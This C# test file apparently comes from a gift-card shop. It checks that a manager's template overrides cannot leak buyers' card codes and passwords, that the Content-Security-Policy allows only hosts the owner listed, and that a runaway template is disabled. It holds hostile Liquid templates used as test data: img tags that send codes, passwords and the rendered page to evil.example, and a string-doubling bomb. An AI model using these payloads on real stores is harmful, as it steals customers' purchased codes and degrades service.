using System.Net;
using HuijinCardHub.Settings;
using HuijinCardHub.Tests.Fixtures;
using HuijinCardHub.Tests.Theming;
using HuijinCardHub.Theming;
using Microsoft.Extensions.DependencyInjection;

namespace HuijinCardHub.Tests.Orders;

/// <summary>
/// A shop manager who may edit templates (ManageThemes) overrides the order page and the layout to read a buyer's
/// codes and send them away; the codes show only where the built-in tag stands, and the CSP lets no page load
/// from a host the owner did not list.
/// </summary>
[Collection(OrdersCollection.Name)]
public sealed class OrderPageCodesTests(OrdersShop shop)
{
    private async Task<string> PaidOrderAsync(HttpClient buyer, long variantId)
    {
        var placed = await buyer.SubmitAsync($"/checkout?variant={variantId}&quantity=1",
            new Dictionary<string, string> { ["variant"] = variantId.ToString(), ["quantity"] = "1", ["contact"] = "codes@example.com", ["password"] = "abcd1234" }, "/checkout");
        var orderNo = placed.Headers.Location!.ToString()["/order/".Length..];
        await buyer.SubmitAsync("/order/" + orderNo, new Dictionary<string, string> { ["channel"] = "instant" }, $"/order/{orderNo}/pay");
        return orderNo;
    }

    private Task OverrideAsync(string template, string source) =>
        shop.WithAsync(async s => { await s.GetRequiredService<ITemplateOverrideStore>().SaveAsync("Jade", template, source); return 0; });

    private Task ResetAsync(string template) =>
        shop.WithAsync(async s => { await s.GetRequiredService<ITemplateOverrideStore>().DeleteAsync("Jade", template); return 0; });

    private static int Count(string html, string part) => (html.Length - html.Replace(part, "", StringComparison.Ordinal).Length) / part.Length;

    [Fact]
    public async Task An_order_override_that_reads_the_codes_gets_none()
    {
        var variant = await shop.CodeGoodsAsync("leak", 2);
        using var buyer = shop.CreateBrowser();
        var orderNo = await PaidOrderAsync(buyer, variant.Id);
        await OverrideAsync("order", """
            {% assign first = Model.Lines[0] %}
            <p id="member">[{{ first.Codes[0].CardNumber }}][{{ first.Codes[0].Password }}][{{ first.Codes[0].Text }}][{{ first.Codes }}]</p>
            {% for line in Model.Lines %}{% for code in line.Codes %}<img src="https://evil.example/?c={{ code.CardNumber | url_encode }}&p={{ code.Password }}">{% endfor %}{% endfor %}
            <p id="json">{{ Model | json }}{{ first | json }}{{ first.Codes | json }}</p>
            {% capture grabbed %}{% for code in first.Codes %}{{ code.CardNumber }}{% endfor %}{% endcapture %}<p id="capture">[{{ grabbed }}]</p>
            """);
        try
        {
            var html = await buyer.GetStringAsync("/order/" + orderNo);

            Assert.DoesNotContain("LEAK-0001", html, StringComparison.Ordinal);
            Assert.DoesNotContain("PW0001", html, StringComparison.Ordinal);
            Assert.Contains("<p id=\"capture\">[]</p>", html, StringComparison.Ordinal);
        }
        finally
        {
            await ResetAsync("order");
        }
    }

    [Fact]
    public async Task The_codes_show_only_where_the_tag_stands_in_plain_text()
    {
        var variant = await shop.CodeGoodsAsync("tag", 2);
        using var buyer = shop.CreateBrowser();
        var orderNo = await PaidOrderAsync(buyer, variant.Id);
        var shipped = await buyer.GetStringAsync("/order/" + orderNo);
        Assert.Equal(1, Count(shipped, "TAG-0001"));
        Assert.Contains("<code class=\"code-number\">TAG-0001</code> <code class=\"code-password\">PW0001</code>", shipped, StringComparison.Ordinal);

        await OverrideAsync("order", """
            {% capture grabbed %}{% delivered_codes 1 %}{% endcapture %}<p id="capture">[{{ grabbed }}]</p>
            <img src='https://evil.example/?c={% delivered_codes 1 %}'>
            <!-- {% delivered_codes 0 %} -->
            <select name="s"><option>{% delivered_codes 1 %}</option></select>
            <div id="real">{% delivered_codes Model.Lines[0].Number %}</div>
            """);
        await OverrideAsync("layout", """
            <html><body>{% capture page %}{{ Content }}{% endcapture %}<img src="https://evil.example/?p={{ page | url_encode }}">
            <img src='https://evil.example/?raw={{ Content }}'><main>{{ Content }}</main></body></html>
            """);
        try
        {
            var html = await buyer.GetStringAsync("/order/" + orderNo);

            Assert.Equal(1, Count(html, "TAG-0001"));
            Assert.Contains("<main><p id=\"capture\">[]</p>", html, StringComparison.Ordinal);
            Assert.Contains("<div id=\"real\"><ol class=\"codes\"><li class=\"code\" data-code-id=", html, StringComparison.Ordinal);
        }
        finally
        {
            await ResetAsync("layout");
            await ResetAsync("order");
        }
    }

    [Fact]
    public async Task The_policy_allows_the_shop_itself_and_only_the_hosts_the_owner_listed()
    {
        using var browser = shop.CreateBrowser();
        var before = (await browser.GetAsync("/orders/lookup")).Headers.GetValues("Content-Security-Policy").Single();
        Assert.DoesNotContain(" https:", before, StringComparison.Ordinal);
        Assert.Contains("img-src 'self' data:;", before, StringComparison.Ordinal);

        await shop.WithAsync(async s =>
        {
            await s.GetRequiredService<ISettingsStore>().SaveRawAsync("ContentHosts", """{ "hosts": "cdn.example.com\n*.com\nhttps://x.example.org/path\n*.img-cdn.example.net" }""");
            return 0;
        });
        try
        {
            var after = (await browser.GetAsync("/orders/lookup")).Headers.GetValues("Content-Security-Policy").Single();

            Assert.Contains("img-src 'self' data: https://cdn.example.com https://*.img-cdn.example.net;", after, StringComparison.Ordinal);
            Assert.DoesNotContain("*.com", after.Replace("*.img-cdn.example.net", "", StringComparison.Ordinal), StringComparison.Ordinal);
            Assert.DoesNotContain("x.example.org", after, StringComparison.Ordinal);
            Assert.DoesNotContain(" https:;", after, StringComparison.Ordinal);
        }
        finally
        {
            await shop.WithAsync(async s => { await s.GetRequiredService<ISettingsStore>().SaveRawAsync("ContentHosts", "{}"); return 0; });
        }
    }

    [Fact]
    public async Task A_failing_override_is_switched_off_after_three_tries_and_the_admin_says_why()
    {
        // 25 doublings: 64 MB of text on a Fluid that checks nothing, so today it renders (without a word) and is never switched off.
        const string Bomb = "{% assign s = \"x\" %}{% for i in (1..25) %}{% assign s = s | append: s %}{% endfor %}";
        await OverrideAsync("lookup", Bomb);
        try
        {
            using var visitor = shop.CreateBrowser();
            for (var i = 0; i < 3; i++)
            {
                var page = await visitor.GetAsync("/orders/lookup");
                Assert.Equal(HttpStatusCode.OK, page.StatusCode);
                Assert.Contains("查询密码", await page.Content.ReadAsStringAsync(), StringComparison.Ordinal);
            }

            using var admin = shop.CreateBrowser();
            await admin.SignInAsync(ShopFactory.AdminUserName, ShopFactory.AdminPassword);
            var list = await admin.GetStringAsync("/admin/themes/Jade/templates");
            var edit = await admin.GetStringAsync("/admin/themes/Jade/templates/lookup");

            Assert.Contains("已停用：多次出错", list, StringComparison.Ordinal);
            Assert.Contains("此修改已停用，店面正在使用主题原始模板", edit, StringComparison.Ordinal);
            Assert.Contains("模板生成的文本过长", edit, StringComparison.Ordinal);
            Assert.Contains("(1..25)", edit, StringComparison.Ordinal);
        }
        finally
        {
            await ResetAsync("lookup");
        }
    }
}
